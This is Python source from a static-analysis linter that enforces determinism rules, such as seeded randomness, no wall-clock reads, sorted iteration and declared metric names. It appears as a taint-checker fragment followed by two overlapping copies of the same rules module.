        if isinstance(func, ast.Attribute):
            method = func.attr
            if method in _STORE_SINK_METHODS:
                return f"store sink `.{method}(...)`"
            if method == "append":
                receiver = (dotted_name(func.value) or "").lower()
                if any(hint in receiver for hint in _BUILDER_HINTS):
                    return f"store sink `{receiver}.append(...)`"
                return None
            if method == "emit" and call.args:
                first = call.args[0]
                if isinstance(first, ast.Constant) \
                        and isinstance(first.value, str):
                    kind = first.value
                    for pattern in self.analysis.volatile_trace_kinds:
                        if fnmatchcase(kind, pattern):
                            return None
                    return f"trace payload `emit({kind!r}, ...)`"
                return None
        resolved = self._resolved_dotted(func)
        if resolved in ("hashlib.sha256", "hashlib.md5", "hashlib.blake2b"):
            return f"hashed output `{resolved}(...)`"
        return None

    def _check_sink(self, call: ast.Call, site: Optional[CallSite],
                    arg_tokens: List[TokenSet],
                    kw_tokens: Dict[str, TokenSet]) -> None:
        desc = self._sink_desc(call)
        if desc is None:
            return
        skip_first = desc.startswith("trace payload")
        tainted: TokenSet = set()
        for pos, tokens in enumerate(arg_tokens):
            if skip_first and pos == 0:
                continue
            tainted |= tokens
        for tokens in kw_tokens.values():
            tainted |= tokens
        # Sorted so that when several tokens reach one sink, the finding
        # that survives site-level dedup is the same on every run.
        for token in sorted(tainted, key=_token_order):
            if isinstance(token, int):
                if token not in self.summary.param_sinks:
                    self.summary.param_sinks[token] = SinkHit(
                        desc, self.fn.path, call.lineno, call.col_offset,
                        (self.fn.pretty,),
                    )
            else:
                self._record_finding(token, desc, self.fn.path,
                                     call.lineno, call.col_offset)

    def _record_finding(self, evidence: Evidence, sink_desc: str,
                        path: str, line: int, col: int) -> None:
        message = (
            f"nondeterministic {evidence.kind} value reaches {sink_desc}: "
            f"{evidence.render()}"
        )
        self.summary.findings.append(TaintFinding(
            path=path, line=line, col=col, kind=evidence.kind,
            message=message,
        ))

    def _record_cross_finding(self, tokens: TokenSet, target: FunctionInfo,
                              hit: SinkHit) -> None:
        """A tainted argument reaches a sink inside (or below) ``target``."""
        for token in tokens:
            if isinstance(token, int):
                # Parameter taint forwarded into a sinking callee: this
                # function's parameter reaches that sink transitively.
                if token not in self.summary.param_sinks:
                    self.summary.param_sinks[token] = hit.through(
                        self.fn.pretty)
            else:
                frames = token.chain
                if not frames or frames[-1] != self.fn.pretty:
                    frames = frames + (self.fn.pretty,)
                chain = " -> ".join(frames + hit.chain)
                head = (f"{token.source_desc} "
                        f"({token.source_path}:{token.source_line})")
                message = (
                    f"nondeterministic {token.kind} value reaches "
                    f"{hit.sink_desc}: {head} -> {chain}"
                )
                self.summary.findings.append(TaintFinding(
                    path=hit.path, line=hit.line, col=hit.col,
                    kind=token.kind, message=message,
                ))
