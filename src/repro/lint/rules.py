"""The determinism & invariant rules, one AST visitor per rule.

Each rule encodes one invariant the reproduction's byte-identical-store /
worker-count-invariance guarantee rests on (see DESIGN section 6e).  Rules
are named, individually suppressible (``# repro: lint-ok[rule-id]``), and
carry a fix hint pointing at the sanctioned idiom:

================== ==========================================================
``global-random``  randomness outside named ``RngStream`` s
``wall-clock``     real-time reads outside the ``obs`` layer
``unordered-iter`` iteration over set-typed values (order is interpreter-
                   and hash-seed-dependent)
``mutable-default`` mutable default arguments (shared across calls)
``bare-except``    ``except:`` swallowing ``KeyboardInterrupt``/``SystemExit``
``unsorted-listing`` ``os.listdir``/``glob`` results used unsorted
``registry-names`` metric names / trace kinds not declared in
                   ``repro.obs.names``
================== ==========================================================

Rules see a :class:`FileContext` (path + parsed tree) and yield
:class:`~repro.lint.findings.Finding` objects; the engine handles
suppressions and the baseline.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass
from typing import Dict, Iterator, List, Optional, Sequence, Set, Tuple

from repro.lint.findings import Finding
from repro.obs import names as _names


@dataclass
class FileContext:
    """One file as the rules see it."""

    path: str       # as reported in findings (posix, cwd-relative if possible)
    rel: str        # path relative to the ``repro`` package root, or basename
    tree: ast.AST
    source: str

    def in_layer(self, *prefixes: str) -> bool:
        """True when the file lives under one of the package-relative
        ``prefixes`` (exact file names also match)."""
        for prefix in prefixes:
            if self.rel == prefix or self.rel.startswith(prefix):
                return True
        return False


class Rule:
    """Base class: rule id, one-line summary, and the sanctioned fix."""

    id: str = ""
    summary: str = ""
    hint: str = ""

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        raise NotImplementedError

    def finding(
        self, ctx: FileContext, node: ast.AST, message: str,
        hint: Optional[str] = None,
    ) -> Finding:
        return Finding(
            path=ctx.path,
            line=getattr(node, "lineno", 1),
            col=getattr(node, "col_offset", 0),
            rule=self.id,
            message=message,
            hint=self.hint if hint is None else hint,
        )


def _dotted(node: ast.AST) -> Optional[str]:
    """``a.b.c`` for a Name/Attribute chain, else None."""
    parts: List[str] = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if isinstance(node, ast.Name):
        parts.append(node.id)
        return ".".join(reversed(parts))
    return None


def _func_name(call: ast.Call) -> Optional[str]:
    """The terminal name of a call's function (``x.y.inc`` -> ``inc``)."""
    func = call.func
    if isinstance(func, ast.Attribute):
        return func.attr
    if isinstance(func, ast.Name):
        return func.id
    return None


def _module_aliases(tree: ast.AST, module: str) -> Set[str]:
    """Names the file binds to ``module`` (``import numpy as np`` -> np)."""
    aliases: Set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name == module:
                    aliases.add(alias.asname or alias.name)
    return aliases


class GlobalRandomRule(Rule):
    """All randomness must flow through named ``RngStream`` s.

    ``random`` and the ``numpy.random`` module-level generator are global
    mutable state: a draw anywhere perturbs every draw after it, so adding
    a consumer silently re-deals the whole simulation — the exact failure
    the named-stream design exists to prevent.  Only ``simulation/rng.py``
    (the one wrapper around a seeded generator) may touch numpy's RNG
    machinery.
    """

    id = "global-random"
    summary = "randomness outside named RngStreams"
    hint = ("draw from a named RngStream (repro.simulation.rng); "
            "derive sub-streams with .child()")

    ALLOWED = ("simulation/rng.py",)

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        if ctx.in_layer(*self.ALLOWED):
            return
        numpy_aliases = _module_aliases(ctx.tree, "numpy")
        for node in ast.walk(ctx.tree):
            if isinstance(node, ast.Import):
                for alias in node.names:
                    if alias.name == "random" or alias.name.startswith("random."):
                        yield self.finding(
                            ctx, node, "import of the stdlib `random` module"
                        )
                    elif alias.name.startswith("numpy.random"):
                        yield self.finding(
                            ctx, node, f"import of `{alias.name}`"
                        )
            elif isinstance(node, ast.ImportFrom):
                module = node.module or ""
                if module == "random" or module.startswith("random."):
                    yield self.finding(
                        ctx, node, "import from the stdlib `random` module"
                    )
                elif module == "numpy.random" or module.startswith("numpy.random."):
                    yield self.finding(ctx, node, "import from `numpy.random`")
                elif module == "numpy":
                    for alias in node.names:
                        if alias.name == "random":
                            yield self.finding(
                                ctx, node, "import of `numpy.random`"
                            )
            elif isinstance(node, ast.Attribute) and node.attr == "random":
                if isinstance(node.value, ast.Name) \
                        and node.value.id in numpy_aliases:
                    yield self.finding(
                        ctx, node, "use of the `numpy.random` module"
                    )


class WallClockRule(Rule):
    """Only the ``obs`` layer may read real time.

    A wall-clock read inside simulation, workload, honeypot, store or
    analysis code leaks host timing into results that must be a pure
    function of (config, seed).  Code that wants to *measure* itself asks
    the obs layer (``Metrics.timer`` / ``Stopwatch``), keeping every real
    clock read in one auditable module.
    """

    id = "wall-clock"
    summary = "real-time read outside the obs layer"
    hint = ("time spans with repro.obs Metrics.timer()/span() or a "
            "repro.obs.Stopwatch; simulation code uses sim-time stamps")

    ALLOWED = ("obs/", "lint/", "__main__.py")

    _DATETIME_CALLS = ("now", "utcnow", "today", "fromtimestamp")

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        if ctx.in_layer(*self.ALLOWED):
            return
        datetime_names: Set[str] = set()
        for node in ast.walk(ctx.tree):
            if isinstance(node, ast.Import):
                for alias in node.names:
                    if alias.name == "time":
                        yield self.finding(
                            ctx, node, "import of the `time` module"
                        )
                    elif alias.name == "datetime":
                        datetime_names.add(alias.asname or "datetime")
            elif isinstance(node, ast.ImportFrom):
                if node.module == "time":
                    yield self.finding(
                        ctx, node, "import from the `time` module"
                    )
                elif node.module == "datetime":
                    for alias in node.names:
                        datetime_names.add(alias.asname or alias.name)
        for node in ast.walk(ctx.tree):
            if not isinstance(node, ast.Call):
                continue
            dotted = _dotted(node.func)
            if not dotted or "." not in dotted:
                continue
            root = dotted.partition(".")[0]
            terminal = dotted.rsplit(".", 1)[-1]
            if root in datetime_names and terminal in self._DATETIME_CALLS:
                yield self.finding(
                    ctx, node, f"wall-clock read `{dotted}(...)`"
                )


class UnorderedIterRule(Rule):
    """Iteration order over sets is a worker-count/hash-seed hazard.

    ``set``/``frozenset`` iteration order depends on insertion history and
    the per-process string hash seed, so any set-driven loop that feeds
    emission order, store columns, trace events or merge logic breaks
    byte-identity between runs and worker counts.  Normalise first:
    ``sorted(s)``, or dedup with order-preserving ``dict.fromkeys(seq)``.
    """

    id = "unordered-iter"
    summary = "iteration over an unordered set"
    hint = ("iterate sorted(the_set), or dedup order-preserving with "
            "dict.fromkeys(seq)")

    _SET_OPS = {"union", "intersection", "difference", "symmetric_difference"}
    _ORDERED_CONSUMERS = {"list", "tuple", "enumerate", "iter"}
    #: Reducers whose result cannot depend on iteration order (``sum`` is
    #: absent on purpose: float addition is order-sensitive).
    _ORDER_FREE_REDUCERS = {"any", "all", "len", "min", "max",
                            "set", "frozenset"}

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        set_vars = self._set_variables(ctx.tree)
        exempt: Set[int] = set()
        for node in ast.walk(ctx.tree):
            # A comprehension fed straight into an order-insensitive
            # reducer (any/all/min/...) cannot leak iteration order.
            if (isinstance(node, ast.Call)
                    and isinstance(node.func, ast.Name)
                    and node.func.id in self._ORDER_FREE_REDUCERS
                    and node.args):
                exempt.add(id(node.args[0]))
        for node in ast.walk(ctx.tree):
            if isinstance(node, (ast.For, ast.AsyncFor)):
                if self._unordered(node.iter, set_vars):
                    yield self.finding(
                        ctx, node.iter, self._message(node.iter)
                    )
            elif isinstance(node, (ast.ListComp, ast.SetComp,
                                   ast.DictComp, ast.GeneratorExp)):
                if id(node) in exempt:
                    continue
                for gen in node.generators:
                    # Set comprehensions *produce* a set; iterating an
                    # unordered source inside one is still unordered in,
                    # unordered out — flag the source, not the result.
                    if self._unordered(gen.iter, set_vars):
                        yield self.finding(ctx, gen.iter, self._message(gen.iter))
            elif isinstance(node, ast.Call):
                name = _func_name(node)
                if (name in self._ORDERED_CONSUMERS
                        and isinstance(node.func, ast.Name)
                        and node.args
                        and self._unordered(node.args[0], set_vars)):
                    yield self.finding(
                        ctx, node.args[0],
                        f"`{name}(...)` materialises an unordered set",
                    )
                elif (isinstance(node.func, ast.Attribute)
                        and node.func.attr == "join"
                        and node.args
                        and self._unordered(node.args[0], set_vars)):
                    yield self.finding(
                        ctx, node.args[0], "`.join(...)` over an unordered set"
                    )

    def _message(self, node: ast.AST) -> str:
        dotted = _dotted(node)
        what = f"`{dotted}`" if dotted else "a set expression"
        return f"iteration over {what} (unordered)"

    def _set_variables(self, tree: ast.AST) -> Set[str]:
        """Names assigned a set literal / ``set()`` / ``frozenset()``."""
        out: Set[str] = set()
        for node in ast.walk(tree):
            targets: List[ast.expr] = []
            value: Optional[ast.expr] = None
            if isinstance(node, ast.Assign):
                targets, value = node.targets, node.value
            elif isinstance(node, ast.AnnAssign) and node.value is not None:
                targets, value = [node.target], node.value
            if value is None or not self._set_expr(value):
                continue
            for target in targets:
                if isinstance(target, ast.Name):
                    out.add(target.id)
        return out

    def _set_expr(self, node: ast.expr) -> bool:
        if isinstance(node, (ast.Set, ast.SetComp)):
            return True
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
            return node.func.id in ("set", "frozenset")
        return False

    def _unordered(self, node: ast.expr, set_vars: Set[str]) -> bool:
        if self._set_expr(node):
            return True
        if isinstance(node, ast.Name):
            return node.id in set_vars
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            if node.func.attr in self._SET_OPS:
                return self._unordered(node.func.value, set_vars)
        if isinstance(node, ast.BinOp) and isinstance(
            node.op, (ast.BitOr, ast.BitAnd, ast.Sub, ast.BitXor)
        ):
            return (self._unordered(node.left, set_vars)
                    or self._unordered(node.right, set_vars))
        return False


class MutableDefaultRule(Rule):
    """Mutable default arguments are shared across calls.

    A ``def f(acc=[])`` default is evaluated once and mutated forever
    after — cross-call state that makes results depend on call history
    (and with sharded generation, on which worker handled what).
    """

    id = "mutable-default"
    summary = "mutable default argument"
    hint = "default to None and create the value inside the function body"

    _CTORS = ("list", "dict", "set")

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        for node in ast.walk(ctx.tree):
            if not isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef,
                                     ast.Lambda)):
                continue
            defaults = list(node.args.defaults) + [
                d for d in node.args.kw_defaults if d is not None
            ]
            for default in defaults:
                if self._mutable(default):
                    name = getattr(node, "name", "<lambda>")
                    yield self.finding(
                        ctx, default,
                        f"mutable default argument in `{name}(...)`",
                    )

    def _mutable(self, node: ast.expr) -> bool:
        if isinstance(node, (ast.List, ast.Dict, ast.Set,
                             ast.ListComp, ast.DictComp, ast.SetComp)):
            return True
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
            return node.func.id in self._CTORS
        return False


class BareExceptRule(Rule):
    """``except:`` hides real failures (and catches KeyboardInterrupt).

    Pipeline code that swallows everything converts a correctness bug into
    silently-wrong measurement output.  Catch the exceptions the operation
    can actually raise.
    """

    id = "bare-except"
    summary = "bare `except:` clause"
    hint = "name the exception types the guarded operation can raise"

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        for node in ast.walk(ctx.tree):
            if isinstance(node, ast.ExceptHandler) and node.type is None:
                yield self.finding(ctx, node, "bare `except:`")


class UnsortedListingRule(Rule):
    """Directory listing order is filesystem-dependent.

    ``os.listdir`` / ``glob`` return entries in on-disk order, which
    varies across filesystems and inode history; feeding that order into
    pipeline logic makes output machine-dependent.  Wrap the call in
    ``sorted(...)`` at the call site.
    """

    id = "unsorted-listing"
    summary = "unsorted directory listing"
    hint = "wrap the listing call in sorted(...) at the call site"

    _OS_FUNCS = ("os.listdir", "os.scandir", "os.walk")
    _GLOB_FUNCS = ("glob.glob", "glob.iglob")
    _PATH_METHODS = ("glob", "rglob", "iterdir")

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        sorted_wrapped: Set[int] = set()
        for node in ast.walk(ctx.tree):
            if (isinstance(node, ast.Call)
                    and isinstance(node.func, ast.Name)
                    and node.func.id == "sorted"):
                for arg in node.args:
                    sorted_wrapped.add(id(arg))
        glob_imports = set()
        for node in ast.walk(ctx.tree):
            if isinstance(node, ast.ImportFrom) and node.module == "glob":
                for alias in node.names:
                    glob_imports.add(alias.asname or alias.name)
        for node in ast.walk(ctx.tree):
            if not isinstance(node, ast.Call) or id(node) in sorted_wrapped:
                continue
            dotted = _dotted(node.func)
            listing = None
            if dotted in self._OS_FUNCS or dotted in self._GLOB_FUNCS:
                listing = dotted
            elif isinstance(node.func, ast.Name) \
                    and node.func.id in glob_imports:
                listing = f"glob.{node.func.id}"
            elif (isinstance(node.func, ast.Attribute)
                    and node.func.attr in self._PATH_METHODS
                    and not isinstance(node.func.value, ast.Name)):
                # Path-object methods; skip module-level x.glob handled above.
                listing = f".{node.func.attr}"
            elif (isinstance(node.func, ast.Attribute)
                    and node.func.attr in self._PATH_METHODS
                    and isinstance(node.func.value, ast.Name)
                    and node.func.value.id not in ("os", "glob")):
                listing = f"{node.func.value.id}.{node.func.attr}"
            if listing:
                yield self.finding(
                    ctx, node, f"unsorted listing `{listing}(...)`"
                )


class RegistryNamesRule(Rule):
    """Metric names and trace kinds must be declared in ``repro.obs.names``.

    ``Metrics`` is schema-free, so a typo at a call site silently forks a
    counter into two series that ``Metrics.merge`` folds without
    complaint.  Literal names are checked exactly; f-string names must
    have a literal head that can reach a declared ``*`` family.
    """

    id = "registry-names"
    summary = "undeclared metric name / trace kind"
    hint = "declare the name in repro/obs/names.py (or fix the typo)"

    #: The obs layer defines the instruments; the lint layer quotes them.
    EXEMPT = ("obs/", "lint/")

    _FAMILY_OF_FUNC = {
        "inc": "counter",
        "_metric_inc": "counter",
        "counter": "counter",
        "gauge_set": "gauge",
        "gauge_max": "gauge",
        "observe": "histogram",
        "histogram": "histogram",
        "timer": "histogram",
        "span": "span",
        "emit": "trace",
    }

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        if ctx.in_layer(*self.EXEMPT):
            return
        for node in ast.walk(ctx.tree):
            if not isinstance(node, ast.Call) or not node.args:
                continue
            family = self._FAMILY_OF_FUNC.get(_func_name(node) or "")
            if family is None:
                continue
            declared = _names.FAMILIES[family]
            arg = node.args[0]
            if isinstance(arg, ast.Constant) and isinstance(arg.value, str):
                if not _names.is_declared(arg.value, declared):
                    yield self.finding(
                        ctx, arg,
                        f"{family} name {arg.value!r} is not declared in "
                        f"repro.obs.names",
                    )
            elif isinstance(arg, ast.JoinedStr):
                head = ""
                if arg.values and isinstance(arg.values[0], ast.Constant):
                    head = str(arg.values[0].value)
                if not _names.prefix_may_match(head, declared):
                    yield self.finding(
                        ctx, arg,
                        f"dynamic {family} name (head {head!r}) matches no "
                        f"declared family in repro.obs.names",
                    )


#: Every rule, in reporting order.  The engine instantiates from here.
ALL_RULES: Tuple[type, ...] = (
    GlobalRandomRule,
    WallClockRule,
    UnorderedIterRule,
    MutableDefaultRule,
    BareExceptRule,
    UnsortedListingRule,
    RegistryNamesRule,
)


def default_rules() -> List[Rule]:
    return [rule() for rule in ALL_RULES]


def rules_by_id() -> Dict[str, type]:
    return {rule.id: rule for rule in ALL_RULES}


def select_rules(ids: Sequence[str]) -> List[Rule]:
    """Instantiate the rules named by ``ids`` (unknown ids raise)."""
    table = rules_by_id()
    unknown = [i for i in ids if i not in table]
    if unknown:
        known = ", ".join(sorted(table))
        raise ValueError(f"unknown rule(s) {unknown!r}; known: {known}")
    return [table[i]() for i in ids]
