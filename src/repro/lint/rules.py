"""The determinism & invariant rules, one AST visitor per rule.

Each rule encodes one invariant the reproduction's byte-identical-store /
worker-count-invariance guarantee rests on (see DESIGN section 6e).  Rules
are named, individually suppressible (``# repro: lint-ok[rule-id]``), and
carry a fix hint pointing at the sanctioned idiom:

================== ==========================================================
``global-random``  randomness outside named ``RngStream`` s
``wall-clock``     real-time reads outside the ``obs`` layer
``unordered-iter`` iteration over set-typed values (order is interpreter-
                   and hash-seed-dependent)
``mutable-default`` mutable default arguments (shared across calls)
``bare-except``    ``except:`` swallowing ``KeyboardInterrupt``/``SystemExit``
``unsorted-listing`` ``os.listdir``/``glob`` results used unsorted
``registry-names`` metric names / trace kinds not declared in
                   ``repro.obs.names``
================== ==========================================================

Rules see a :class:`FileContext` (path + parsed tree) and yield
:class:`~repro.lint.findings.Finding` objects; the engine handles
suppressions and the baseline.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass
from typing import Dict, Iterator, List, Optional, Sequence, Set, Tuple

from repro.lint.dataflow import DataflowAnalysis
from repro.lint.findings import Finding
from repro.lint.graph import FunctionInfo, ModuleInfo, ProjectGraph, \
    dotted_name
from repro.obs import names as _names


@dataclass
class FileContext:
    """One file as the rules see it."""

    path: str       # as reported in findings (posix, cwd-relative if possible)
    rel: str        # path relative to the ``repro`` package root, or basename
    tree: ast.AST
    source: str

    def in_layer(self, *prefixes: str) -> bool:
        """True when the file lives under one of the package-relative
        ``prefixes`` (exact file names also match)."""
        for prefix in prefixes:
            if self.rel == prefix or self.rel.startswith(prefix):
                return True
        return False


class Rule:
    """Base class: rule id, one-line summary, and the sanctioned fix."""

    id: str = ""
    summary: str = ""
    hint: str = ""

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        raise NotImplementedError

    def finding(
        self, ctx: FileContext, node: ast.AST, message: str,
        hint: Optional[str] = None,
    ) -> Finding:
        return Finding(
            path=ctx.path,
            line=getattr(node, "lineno", 1),
            col=getattr(node, "col_offset", 0),
            rule=self.id,
            message=message,
            hint=self.hint if hint is None else hint,
        )


def _dotted(node: ast.AST) -> Optional[str]:
    """``a.b.c`` for a Name/Attribute chain, else None."""
    parts: List[str] = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if isinstance(node, ast.Name):
        parts.append(node.id)
        return ".".join(reversed(parts))
    return None


def _func_name(call: ast.Call) -> Optional[str]:
    """The terminal name of a call's function (``x.y.inc`` -> ``inc``)."""
    func = call.func
    if isinstance(func, ast.Attribute):
        return func.attr
    if isinstance(func, ast.Name):
        return func.id
    return None


def _module_aliases(tree: ast.AST, module: str) -> Set[str]:
    """Names the file binds to ``module`` (``import numpy as np`` -> np)."""
    aliases: Set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name == module:
                    aliases.add(alias.asname or alias.name)
    return aliases


class GlobalRandomRule(Rule):
    """All randomness must flow through named ``RngStream`` s.

    ``random`` and the ``numpy.random`` module-level generator are global
    mutable state: a draw anywhere perturbs every draw after it, so adding
    a consumer silently re-deals the whole simulation — the exact failure
    the named-stream design exists to prevent.  Only ``simulation/rng.py``
    (the one wrapper around a seeded generator) may touch numpy's RNG
    machinery.
    """

    id = "global-random"
    summary = "randomness outside named RngStreams"
    hint = ("draw from a named RngStream (repro.simulation.rng); "
            "derive sub-streams with .child()")

    ALLOWED = ("simulation/rng.py",)

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        if ctx.in_layer(*self.ALLOWED):
            return
        numpy_aliases = _module_aliases(ctx.tree, "numpy")
        for node in ast.walk(ctx.tree):
            if isinstance(node, ast.Import):
                for alias in node.names:
                    if alias.name == "random" or alias.name.startswith("random."):
                        yield self.finding(
                            ctx, node, "import of the stdlib `random` module"
                        )
                    elif alias.name.startswith("numpy.random"):
                        yield self.finding(
                            ctx, node, f"import of `{alias.name}`"
                        )
            elif isinstance(node, ast.ImportFrom):
                module = node.module or ""
                if module == "random" or module.startswith("random."):
                    yield self.finding(
                        ctx, node, "import from the stdlib `random` module"
                    )
                elif module == "numpy.random" or module.startswith("numpy.random."):
                    yield self.finding(ctx, node, "import from `numpy.random`")
                elif module == "numpy":
                    for alias in node.names:
                        if alias.name == "random":
                            yield self.finding(
                                ctx, node, "import of `numpy.random`"
                            )
            elif isinstance(node, ast.Attribute) and node.attr == "random":
                if isinstance(node.value, ast.Name) \
                        and node.value.id in numpy_aliases:
                    yield self.finding(
                        ctx, node, "use of the `numpy.random` module"
                    )


class WallClockRule(Rule):
    """Only the ``obs`` layer may read real time.

    A wall-clock read inside simulation, workload, honeypot, store or
    analysis code leaks host timing into results that must be a pure
    function of (config, seed).  Code that wants to *measure* itself asks
    the obs layer (``Metrics.timer`` / ``Stopwatch``), keeping every real
    clock read in one auditable module.
    """

    id = "wall-clock"
    summary = "real-time read outside the obs layer"
    hint = ("time spans with repro.obs Metrics.timer()/span() or a "
            "repro.obs.Stopwatch; simulation code uses sim-time stamps")

    ALLOWED = ("obs/", "lint/", "__main__.py")

    _DATETIME_CALLS = ("now", "utcnow", "today", "fromtimestamp")

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        if ctx.in_layer(*self.ALLOWED):
            return
        datetime_names: Set[str] = set()
        for node in ast.walk(ctx.tree):
            if isinstance(node, ast.Import):
                for alias in node.names:
                    if alias.name == "time":
                        yield self.finding(
                            ctx, node, "import of the `time` module"
                        )
                    elif alias.name == "datetime":
                        datetime_names.add(alias.asname or "datetime")
            elif isinstance(node, ast.ImportFrom):
                if node.module == "time":
                    yield self.finding(
                        ctx, node, "import from the `time` module"
                    )
                elif node.module == "datetime":
                    for alias in node.names:
                        datetime_names.add(alias.asname or alias.name)
        for node in ast.walk(ctx.tree):
            if not isinstance(node, ast.Call):
                continue
            dotted = _dotted(node.func)
            if not dotted or "." not in dotted:
                continue
            root = dotted.partition(".")[0]
            terminal = dotted.rsplit(".", 1)[-1]
            if root in datetime_names and terminal in self._DATETIME_CALLS:
                yield self.finding(
                    ctx, node, f"wall-clock read `{dotted}(...)`"
                )


class UnorderedIterRule(Rule):
    """Iteration order over sets is a worker-count/hash-seed hazard.

    ``set``/``frozenset`` iteration order depends on insertion history and
    the per-process string hash seed, so any set-driven loop that feeds
    emission order, store columns, trace events or merge logic breaks
    byte-identity between runs and worker counts.  Normalise first:
    ``sorted(s)``, or dedup with order-preserving ``dict.fromkeys(seq)``.
    """

    id = "unordered-iter"
    summary = "iteration over an unordered set"
    hint = ("iterate sorted(the_set), or dedup order-preserving with "
            "dict.fromkeys(seq)")

    _SET_OPS = {"union", "intersection", "difference", "symmetric_difference"}
    _ORDERED_CONSUMERS = {"list", "tuple", "enumerate", "iter"}
    #: Reducers whose result cannot depend on iteration order (``sum`` is
    #: absent on purpose: float addition is order-sensitive).
    _ORDER_FREE_REDUCERS = {"any", "all", "len", "min", "max",
                            "set", "frozenset"}

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        set_vars = self._set_variables(ctx.tree)
        exempt: Set[int] = set()
        for node in ast.walk(ctx.tree):
            # A comprehension fed straight into an order-insensitive
            # reducer (any/all/min/...) cannot leak iteration order.
            if (isinstance(node, ast.Call)
                    and isinstance(node.func, ast.Name)
                    and node.func.id in self._ORDER_FREE_REDUCERS
                    and node.args):
                exempt.add(id(node.args[0]))
        for node in ast.walk(ctx.tree):
            if isinstance(node, (ast.For, ast.AsyncFor)):
                if self._unordered(node.iter, set_vars):
                    yield self.finding(
                        ctx, node.iter, self._message(node.iter)
                    )
            elif isinstance(node, (ast.ListComp, ast.SetComp,
                                   ast.DictComp, ast.GeneratorExp)):
                if id(node) in exempt:
                    continue
                for gen in node.generators:
                    # Set comprehensions *produce* a set; iterating an
                    # unordered source inside one is still unordered in,
                    # unordered out — flag the source, not the result.
                    if self._unordered(gen.iter, set_vars):
                        yield self.finding(ctx, gen.iter, self._message(gen.iter))
            elif isinstance(node, ast.Call):
                name = _func_name(node)
                if (name in self._ORDERED_CONSUMERS
                        and isinstance(node.func, ast.Name)
                        and node.args
                        and self._unordered(node.args[0], set_vars)):
                    yield self.finding(
                        ctx, node.args[0],
                        f"`{name}(...)` materialises an unordered set",
                    )
                elif (isinstance(node.func, ast.Attribute)
                        and node.func.attr == "join"
                        and node.args
                        and self._unordered(node.args[0], set_vars)):
                    yield self.finding(
                        ctx, node.args[0], "`.join(...)` over an unordered set"
                    )

    def _message(self, node: ast.AST) -> str:
        dotted = _dotted(node)
        what = f"`{dotted}`" if dotted else "a set expression"
        return f"iteration over {what} (unordered)"

    def _set_variables(self, tree: ast.AST) -> Set[str]:
        """Names assigned a set literal / ``set()`` / ``frozenset()``."""
        out: Set[str] = set()
        for node in ast.walk(tree):
            targets: List[ast.expr] = []
            value: Optional[ast.expr] = None
            if isinstance(node, ast.Assign):
                targets, value = node.targets, node.value
            elif isinstance(node, ast.AnnAssign) and node.value is not None:
                targets, value = [node.target], node.value
            if value is None or not self._set_expr(value):
                continue
            for target in targets:
                if isinstance(target, ast.Name):
                    out.add(target.id)
        return out

    def _set_expr(self, node: ast.expr) -> bool:
        if isinstance(node, (ast.Set, ast.SetComp)):
            return True
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
            return node.func.id in ("set", "frozenset")
        return False

    def _unordered(self, node: ast.expr, set_vars: Set[str]) -> bool:
        if self._set_expr(node):
            return True
        if isinstance(node, ast.Name):
            return node.id in set_vars
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            if node.func.attr in self._SET_OPS:
                return self._unordered(node.func.value, set_vars)
        if isinstance(node, ast.BinOp) and isinstance(
            node.op, (ast.BitOr, ast.BitAnd, ast.Sub, ast.BitXor)
        ):
            return (self._unordered(node.left, set_vars)
                    or self._unordered(node.right, set_vars))
        return False


class MutableDefaultRule(Rule):
    """Mutable default arguments are shared across calls.

    A ``def f(acc=[])`` default is evaluated once and mutated forever
    after — cross-call state that makes results depend on call history
    (and with sharded generation, on which worker handled what).
    """

    id = "mutable-default"
    summary = "mutable default argument"
    hint = "default to None and create the value inside the function body"

    _CTORS = ("list", "dict", "set")

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        for node in ast.walk(ctx.tree):
            if not isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef,
                                     ast.Lambda)):
                continue
            defaults = list(node.args.defaults) + [
                d for d in node.args.kw_defaults if d is not None
            ]
            for default in defaults:
                if self._mutable(default):
                    name = getattr(node, "name", "<lambda>")
                    yield self.finding(
                        ctx, default,
                        f"mutable default argument in `{name}(...)`",
                    )

    def _mutable(self, node: ast.expr) -> bool:
        if isinstance(node, (ast.List, ast.Dict, ast.Set,
                             ast.ListComp, ast.DictComp, ast.SetComp)):
            return True
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
            return node.func.id in self._CTORS
        return False


class BareExceptRule(Rule):
    """``except:`` hides real failures (and catches KeyboardInterrupt).

    Pipeline code that swallows everything converts a correctness bug into
    silently-wrong measurement output.  Catch the exceptions the operation
    can actually raise.
    """

    id = "bare-except"
    summary = "bare `except:` clause"
    hint = "name the exception types the guarded operation can raise"

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        for node in ast.walk(ctx.tree):
            if isinstance(node, ast.ExceptHandler) and node.type is None:
                yield self.finding(ctx, node, "bare `except:`")


class UnsortedListingRule(Rule):
    """Directory listing order is filesystem-dependent.

    ``os.listdir`` / ``glob`` return entries in on-disk order, which
    varies across filesystems and inode history; feeding that order into
    pipeline logic makes output machine-dependent.  Wrap the call in
    ``sorted(...)`` at the call site.
    """

    id = "unsorted-listing"
    summary = "unsorted directory listing"
